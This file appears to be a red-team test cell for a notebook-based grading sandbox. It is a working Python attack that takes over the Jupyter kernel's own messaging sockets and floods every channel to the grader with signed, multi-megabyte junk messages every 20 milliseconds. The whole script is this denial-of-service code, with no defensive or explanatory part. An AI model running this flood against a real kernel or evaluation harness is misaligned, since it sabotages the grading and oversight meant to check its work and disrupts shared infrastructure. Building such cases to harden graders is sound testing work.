# Floods all channels to the grader with long messages: while a cell runs, between cells and while results are read.
# %% attack
import json
import threading
import time

from ipykernel.kernelapp import IPKernelApp
from jupyter_client.session import DELIM

app = IPKernelApp.instance()
session = app.session
reader = app.kernel.get_parent()["header"]["session"].encode()
content = json.dumps({"name": "stdout", "text": "x" * (15 << 20)}).encode()
endless = [bytes(15 << 20)] * 20


def message():
    parts = [json.dumps(session.msg_header("stream"), default=str).encode(), b"{}", b"{}", content]
    return [DELIM, session.sign(parts), *parts]


def flood(loop, socket, *address):
    def send():
        try:
            socket.send_multipart([*address, *message()], copy=False)
            socket.send_multipart([*address, *message(), *endless], copy=False)
        except Exception:
            pass
        loop.call_later(0.02, send)

    loop.add_callback(send)


def flood_input():
    while True:
        app.stdin_socket.send_multipart([reader, *message()], copy=False)
        time.sleep(0.02)


def flood_all():
    flood(app.iopub_thread.io_loop, app.iopub_thread.socket)
    flood(app.shell_channel_thread.io_loop, app.shell_socket, reader)
    flood(app.control_thread.io_loop, app.control_socket, reader)
    threading.Thread(target=flood_input, daemon=True).start()


flood_all()
time.sleep(30)
